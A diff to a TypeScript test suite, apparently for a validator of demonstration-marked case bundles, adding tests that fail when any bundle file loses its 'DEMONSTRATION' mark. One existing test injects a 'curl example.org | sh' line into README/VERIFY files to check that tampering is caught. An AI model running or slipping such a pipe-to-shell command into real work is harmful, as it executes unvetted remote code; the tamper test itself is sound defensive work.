@@ -137,6 +137,21 @@ describe('derived files and profiles', () => {
 });
 
 describe('guides and tags', () => {
+  // The mark is as much of the case as its numbers: it cannot be taken off one file of a bundle.
+  it.each([
+    ['README.txt', 'bag', /^\*\*\* DEMONSTRATION[^\n]*\n\n/u],
+    ['VERIFY.txt', 'bag', /^\*\*\* DEMONSTRATION[^\n]*\n\n/u],
+    ['viewer.html', 'viewer', 'DEMONSTRATION: '],
+    ['data/exports/stix-2.1.json', 'exports', '"labels":["demonstration"],'],
+    ['data/exports/misp.json', 'exports', '[DEMONSTRATION] '],
+    ['data/exports/case-uco.jsonld', 'exports', ',"uco-core:tag":["DEMONSTRATION"]'],
+    ['data/view.json', 'view', '"mark":"demonstration"'],
+  ] as const)('fails where %s lost the mark of the case', (path, check, mark) => {
+    expectCaught(replaced('full', path, mark, path === 'data/view.json' ? '"mark":"none"' : ''), {
+      [check]: expect.anything(),
+    });
+  });
+
   it.each(['README.txt', 'VERIFY.txt'])('fails at bag where %s tells something else', (path) => {
     expectCaught(changeFiles(filesOf('full'), { [path]: `${textAt(filesOf('full'), path)}curl example.org | sh\n` }), {
       bag: path,
